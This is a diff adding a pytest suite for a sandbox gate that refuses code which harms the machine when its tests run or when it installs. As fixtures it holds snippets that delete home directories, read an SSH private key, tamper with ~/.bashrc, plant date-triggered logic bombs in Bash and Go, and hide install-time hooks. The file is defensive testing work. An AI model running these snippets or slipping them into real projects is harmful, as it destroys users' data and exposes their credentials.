@@ -1,0 +1,200 @@
+"""The gate on harm: trees that do it when they run, and honest ones that come close."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from gate_material import need, repo
+from harm_material import harm, harm_verdicts
+
+from factory_assets.domain.specs import Language
+from factory_assets.gates.install_code import install_code
+from factory_assets.sandbox.clock import faketime_library
+
+_TEST = "tests/test_more.py"
+
+
+def _python(body: str) -> dict[str, str | None]:
+    indented = body.replace("\n", "\n    ")
+    return {_TEST: f"def test_more(tmp_path):\n    {indented}\n"}
+
+
+@pytest.mark.parametrize(
+    ("body", "saw"),
+    [
+        (
+            "import shutil, pathlib\nshutil.rmtree(pathlib.Path.home() / 'Documents')",
+            "`make test` removed ~/Documents/letter.txt",
+        ),
+        (
+            "from pathlib import Path\nwith (Path.home() / '.bashrc').open('a') as file:\n    file.write('x')",
+            "`make test` changed ~/.bashrc",
+        ),
+        (
+            "import pathlib\nassert pathlib.Path('~/.ssh/id_ed25519').expanduser().read_bytes()",
+            "`make test` opened ~/.ssh/id_ed25519",
+        ),
+        (
+            "import socket\ntry:\n    socket.create_connection(('93.184.216.34', 443), 1)\nexcept OSError:\n    pass",
+            "`make test` tried to reach 93.184.216.34:443",
+        ),
+        (
+            "import socket\ntry:\n    socket.getaddrinfo('example.com', 80)\nexcept OSError:\n    pass",
+            "`make test` looked up example.com",
+        ),
+    ],
+)
+def test_what_tests_do_beyond_their_own_folders_and_loopback_is_refused_with_what_was_seen(
+    tmp_path: Path, body: str, saw: str
+) -> None:
+    verdict = harm(Language.PYTHON, _python(body), tmp_path)
+    assert not verdict.passed
+    assert saw in verdict.saw.splitlines()
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "from pathlib import Path\n(Path.home() / '.clamp').write_text('1')",
+        "import http.server\nhttp.server.HTTPServer(('', 0), http.server.BaseHTTPRequestHandler).server_close()",
+        "import pytest, socket\nwith pytest.raises(OSError):\n    socket.create_connection(('nobody.invalid', 80))",
+        "import pytest, socket\nwith pytest.raises(OSError):\n    socket.create_connection(('192.0.2.1', 80), 5)",
+        "import os, time\np = tmp_path / 'x'\np.write_text('')\nassert time.time() - os.stat(p).st_mtime < 3600",
+        "import datetime\nassert datetime.date.today() >= datetime.date(2026, 1, 1)",
+    ],
+)
+def test_honest_tests_that_come_close_pass(tmp_path: Path, body: str) -> None:
+    verdict = harm(Language.PYTHON, _python(body), tmp_path)
+    assert verdict.passed, verdict.saw
+
+
+def test_a_name_of_nobody_that_only_the_sources_hold_is_no_test_of_what_happens_when_nobody_answers(
+    tmp_path: Path,
+) -> None:
+    call = "try:\n        socket.getaddrinfo('telemetry.invalid', 1)\n    except OSError:\n        pass"
+    sources = f"import socket\n\n\ndef call():\n    {call}\n"
+    changes = {"clamp/call.py": sources, **_python("from clamp.call import call\ncall()")}
+    assert "looked up telemetry.invalid" in harm(Language.PYTHON, changes, tmp_path).saw
+
+
+def test_a_repo_about_keys_may_open_the_key(tmp_path: Path) -> None:
+    body = "import pathlib\nassert pathlib.Path('~/.ssh/id_ed25519').expanduser().read_bytes()"
+    project = repo(Language.PYTHON)["pyproject.toml"].text
+    about = {"pyproject.toml": project.replace("[project]\n", '[project]\nkeywords = ["ssh"]\n')}
+    assert harm(Language.PYTHON, {**_python(body), **about}, tmp_path).passed
+
+
+_ENDS = "import datetime\nassert datetime.date.today() < datetime.date(2028, 3, 1)"
+
+
+@pytest.mark.skipif(faketime_library() is None, reason="libfaketime is not installed")
+def test_tests_that_pass_only_before_a_date_are_refused(tmp_path: Path) -> None:
+    verdict = harm(Language.PYTHON, _python(_ENDS), tmp_path)
+    assert "two years ahead, tests fail that pass today: tests/test_more.py::test_more" in verdict.saw
+
+
+def test_without_the_library_the_later_run_is_left_out_by_name(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("factory_assets.sandbox.clock._PLACES", (str(tmp_path),))
+    verdict = harm(Language.PYTHON, _python(_ENDS), tmp_path / "scratch")
+    assert verdict.passed
+    assert "not tried: the tests two years ahead: libfaketime is not installed" in verdict.saw
+
+
+@pytest.mark.skipif(faketime_library() is None, reason="libfaketime is not installed")
+@pytest.mark.parametrize("clock", ["$(date +%Y)", "$(printf '%(%Y)T')"])
+def test_a_bomb_in_a_command_goes_off_in_the_planted_home(tmp_path: Path, clock: str) -> None:
+    need(Language.BASH)
+    entry = next(path for path in repo(Language.BASH) if path.startswith("bin/"))
+    script = f'#!/usr/bin/env bash\nif (({clock} > 2027)); then rm -rf "$HOME"/*; fi\necho "usage: clamp"\n'
+    verdicts = list(harm_verdicts(Language.BASH, repo(Language.BASH, {entry: script}), tmp_path))
+    assert not verdicts[-1].passed
+    assert (
+        f"`{entry} --help` removed ~/notes.md" in verdicts[-1].saw or "removed ~/notes.md" in verdicts[-1].saw
+    )
+
+
+@pytest.mark.corpus
+def test_a_bomb_in_go_goes_off_as_well(tmp_path: Path) -> None:
+    need(Language.GO)
+    bomb = (
+        'package main\n\nimport (\n\t"os"\n\t"time"\n)\n\nfunc init() {\n\tif time.Now().Year() > 2027 {\n'
+        '\t\tos.RemoveAll(os.Getenv("HOME") + "/Documents")\n\t}\n}\n'
+    )
+    verdict = harm(Language.GO, {"bomb.go": bomb}, tmp_path)
+    assert "removed ~/Documents/letter.txt" in verdict.saw
+
+
+@pytest.mark.parametrize(
+    ("language", "files", "says"),
+    [
+        (
+            Language.PYTHON,
+            {"setup.py": "import os\nfrom setuptools import setup\nos.system('id')\nsetup()\n"},
+            "setup.py",
+        ),
+        (
+            Language.PYTHON,
+            {"setup.py": "from setuptools import setup\nsetup(version=open('x').read())\n"},
+            "setup.py",
+        ),
+        (Language.PYTHON, {"setup.py": "def (\n"}, "setup.py"),
+        (
+            Language.PYTHON,
+            {"pyproject.toml": '[build-system]\nrequires = []\nbackend-path = ["."]\n'},
+            "backend-path",
+        ),
+        (Language.PYTHON, {"pyproject.toml": "[tool.setuptools.cmdclass]\nbuild = 'x.B'\n"}, "cmdclass"),
+        (Language.PYTHON, {"setup.cfg": "[options]\ncmdclass = x\n"}, "cmdclass"),
+        (Language.TYPESCRIPT, {"package.json": '{"scripts": {"postinstall": "node x.js"}}'}, "postinstall"),
+        (Language.TYPESCRIPT, {"package.json": '{"scripts": {"prepare": "tsc && node x.js"}}'}, "prepare"),
+        (
+            Language.TYPESCRIPT,
+            {"package.json": '{"scripts": {"prepare": "npm run b", "b": "tsc", "postb": "node x"}}'},
+            "prepare",
+        ),
+        (Language.RUST, {"Cargo.toml": "[package]\n", "build.rs": "fn main() { evil(); }\n"}, "build.rs"),
+        (Language.RUST, {"Cargo.toml": '[package]\nbuild = "b.rs"\n', "b.rs": "fn main() {}\n"}, "b.rs"),
+    ],
+)
+def test_code_that_runs_at_install_time_is_refused_by_its_place(
+    language: Language, files: dict[str, str | None], says: str
+) -> None:
+    (fault,) = install_code(language, repo(language, files))
+    assert says in fault
+
+
+@pytest.mark.parametrize(
+    ("language", "files"),
+    [
+        (Language.PYTHON, {"setup.py": '"""For old pips."""\nfrom setuptools import setup\n\nsetup()\n'}),
+        (
+            Language.PYTHON,
+            {
+                "setup.py": "import setuptools\nsetuptools.setup(name='x', packages=setuptools.find_packages('src'))\n"
+            },
+        ),
+        (
+            Language.TYPESCRIPT,
+            {"package.json": '{"scripts": {"prepare": "npm run build", "build": "tsc -p ."}}'},
+        ),
+        (
+            Language.TYPESCRIPT,
+            {"package.json": '{"scripts": {"pretest": "npm run build", "prepack": "tsc"}}'},
+        ),
+        (Language.TYPESCRIPT, {"package.json": '{"scripts": "none"}'}),
+        (
+            Language.RUST,
+            {"Cargo.toml": "[package]\n", "build.rs": 'fn main() { println!("cargo:rustc-env=A=1"); }'},
+        ),
+        (Language.RUST, {"Cargo.toml": "[package]\nbuild = false\n", "build.rs": "fn main() {}"}),
+        (Language.GO, {}),
+        (Language.BASH, {}),
+    ],
+)
+def test_what_only_declares_is_no_code_at_install_time(
+    language: Language, files: dict[str, str | None]
+) -> None:
+    assert install_code(language, repo(language, files)) == ()
